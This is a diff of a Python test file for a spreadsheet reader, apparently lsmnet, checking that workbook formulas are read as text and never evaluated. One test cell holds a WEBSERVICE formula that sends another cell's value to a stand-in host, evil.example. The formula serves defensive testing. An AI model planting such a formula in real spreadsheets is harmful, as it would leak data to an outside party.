@@ -266,19 +266,25 @@ def test_static_check_can_fail():
     assert ("call", ("pd", "read_pickle")) in seen
 
 
-def test_workbook_formulas_are_never_evaluated(sandbox):
+def test_workbook_formulas_are_never_evaluated(sandbox, no_network):
     from openpyxl import Workbook
 
     book = Workbook()
     sheet = book.active
     sheet.title = "organizations"
-    sheet.append(["org_id", "name"])
-    sheet.append(["a", '=WEBSERVICE("http://evil.example/?"&A2)'])
-    sheet.append(["b", "=1+1"])
+    sheet.append(["org_id", "name", "founded"])
+    formula = '=WEBSERVICE("http://evil.example/?"&A2)'
+    sheet.append(["a", formula, "=1990+1"])
     book.save(sandbox / "f.xlsx")
-    data = lsmnet.read(sandbox / "f.xlsx")
-    # no saved value: the cell reads as empty, the formula never runs
-    assert data.organizations["name"].isna().all()
+    with pytest.raises(lsmnet.SchemaError, match="founded") as info:
+        lsmnet.read(sandbox / "f.xlsx")
+    # a formula without a saved value is read as its text and reported, never calculated
+    assert "'=1990+1'" in str(info.value) and "1991" not in str(info.value)
+    data = lsmnet.read(sandbox / "f.xlsx", errors="collect")
+    assert len(data.organizations) == 0 and data.set_aside["value"].tolist() == ["=1990+1"]
+    book["organizations"]["C2"] = None
+    book.save(sandbox / "f.xlsx")
+    assert lsmnet.read(sandbox / "f.xlsx").organizations["name"].tolist() == [formula]
 
 
 @pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs symbolic links")
